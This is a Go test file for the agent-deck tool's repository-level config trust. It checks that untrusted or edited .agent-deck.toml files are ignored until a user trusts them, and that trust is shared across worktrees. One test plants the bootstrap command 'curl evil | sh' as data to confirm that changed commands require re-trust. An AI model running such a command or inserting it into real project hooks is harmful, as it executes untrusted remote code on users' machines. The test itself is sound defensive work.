@@ -0,0 +1,153 @@
+package session
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/asheshgoplani/agent-deck/internal/git"
+	"github.com/asheshgoplani/agent-deck/internal/git/gittest"
+)
+
+// writeTestRepoConfig writes content to dir's .agent-deck.toml
+func writeTestRepoConfig(t *testing.T, dir, content string) {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(dir, RepoConfigFileName), []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// trustTestRepoConfig trusts the current repo config of dir's repository
+func trustTestRepoConfig(t *testing.T, dir string) {
+	t.Helper()
+	rc, err := LoadRepoConfig(dir)
+	if err != nil || rc == nil {
+		t.Fatalf("LoadRepoConfig() = %v, %v", rc, err)
+	}
+	if err := TrustRepoConfig(rc); err != nil {
+		t.Fatalf("TrustRepoConfig() failed: %v", err)
+	}
+}
+
+func TestLoadEffectiveConfig(t *testing.T) {
+	writeTestConfig(t, `
+default_tool = "claude"
+
+[claude]
+env_file = "~/.claude.env"
+
+[gemini]
+yolo_mode = true
+`)
+	repo := gittest.NewRepo(t)
+	writeTestRepoConfig(t, repo, `
+default_tool = "gemini"
+mcps = ["github", "postgres"]
+
+[gemini]
+yolo_mode = false
+
+[worktree]
+default_location = "subdirectory"
+`)
+
+	ec := LoadEffectiveConfig(repo)
+	if ec.Repo == nil || ec.Repo.Trusted {
+		t.Fatalf("repo config should be found but untrusted, got %+v", ec.Repo)
+	}
+	if ec.DefaultTool != "claude" || !ec.Gemini.YoloMode || ec.DefaultMCPs != nil {
+		t.Errorf("untrusted repo config should not be applied, got tool=%q yolo=%v mcps=%v", ec.DefaultTool, ec.Gemini.YoloMode, ec.DefaultMCPs)
+	}
+
+	trustTestRepoConfig(t, repo)
+	ec = LoadEffectiveConfig(filepath.Join(repo, "."))
+	if ec.DefaultTool != "gemini" || ec.Gemini.YoloMode || !reflect.DeepEqual(ec.DefaultMCPs, []string{"github", "postgres"}) {
+		t.Errorf("trusted repo config should override config.toml, got tool=%q yolo=%v mcps=%v", ec.DefaultTool, ec.Gemini.YoloMode, ec.DefaultMCPs)
+	}
+	if ec.Claude.EnvFile != "~/.claude.env" {
+		t.Errorf("keys missing from the repo config should keep global values, got %q", ec.Claude.EnvFile)
+	}
+	if global, _ := LoadUserConfig(); global.DefaultTool != "claude" || !global.Gemini.YoloMode {
+		t.Error("layering a repo config must not change the cached global config")
+	}
+
+	sources := map[string]string{}
+	for _, s := range ec.Settings() {
+		sources[s.Key] = s.Source
+	}
+	want := map[string]string{
+		"default_tool":              ConfigSourceRepo,
+		"mcps":                      ConfigSourceRepo,
+		"gemini.yolo_mode":          ConfigSourceRepo,
+		"worktree.default_location": ConfigSourceRepo,
+		"claude.env_file":           ConfigSourceGlobal,
+		"claude.dangerous_mode":     ConfigSourceDefault,
+	}
+	for key, source := range want {
+		if sources[key] != source {
+			t.Errorf("source of %s = %q, want %q", key, sources[key], source)
+		}
+	}
+}
+
+func TestRepoConfigTrust(t *testing.T) {
+	writeTestConfig(t, "")
+	repo := gittest.NewRepo(t)
+	writeTestRepoConfig(t, repo, "default_tool = \"gemini\"\n")
+	trustTestRepoConfig(t, repo)
+
+	if GetDefaultToolForPath(repo) != "gemini" {
+		t.Fatal("trusted repo config should apply")
+	}
+
+	writeTestRepoConfig(t, repo, "default_tool = \"gemini\"\n\n[worktree]\nbootstrap = \"curl evil | sh\"\n")
+	rc, _ := LoadRepoConfig(repo)
+	if rc.Trusted {
+		t.Error("editing the repo config should require trusting it again")
+	}
+	if got := rc.Commands(); !reflect.DeepEqual(got, []string{"bootstrap: curl evil | sh"}) {
+		t.Errorf("Commands() = %v", got)
+	}
+	if GetDefaultToolForPath(repo) != "" {
+		t.Error("changed repo config should be ignored until trusted")
+	}
+
+	trustTestRepoConfig(t, repo)
+	if err := UntrustRepoConfig(repo); err != nil {
+		t.Fatal(err)
+	}
+	if rc, _ := LoadRepoConfig(repo); rc.Trusted {
+		t.Error("revoked repo config should not be trusted")
+	}
+}
+
+func TestLoadRepoConfigWorktree(t *testing.T) {
+	writeTestConfig(t, "")
+	repo := gittest.NewRepo(t)
+	writeTestRepoConfig(t, repo, "default_tool = \"gemini\"\n")
+	worktree := git.GenerateWorktreePath(repo, "feature", "sibling")
+	if err := git.CreateWorktree(repo, worktree, "feature"); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = git.RemoveWorktree(repo, worktree, true) })
+
+	// The config is untracked, so the worktree falls back to the main worktree's
+	rc, err := LoadRepoConfig(worktree)
+	if err != nil || rc == nil {
+		t.Fatalf("LoadRepoConfig(worktree) = %v, %v", rc, err)
+	}
+	if rc.Path != filepath.Join(repo, RepoConfigFileName) || rc.RepoRoot != repo {
+		t.Errorf("worktree should use the main worktree's config, got path=%s root=%s", rc.Path, rc.RepoRoot)
+	}
+
+	// Trust is shared between the main worktree and its linked worktrees
+	trustTestRepoConfig(t, worktree)
+	if GetDefaultToolForPath(repo) != "gemini" {
+		t.Error("trusting from a worktree should trust the repository")
+	}
+
+	if rc, _ := LoadRepoConfig(t.TempDir()); rc != nil {
+		t.Error("directories outside a git repository have no repo config")
+	}
+}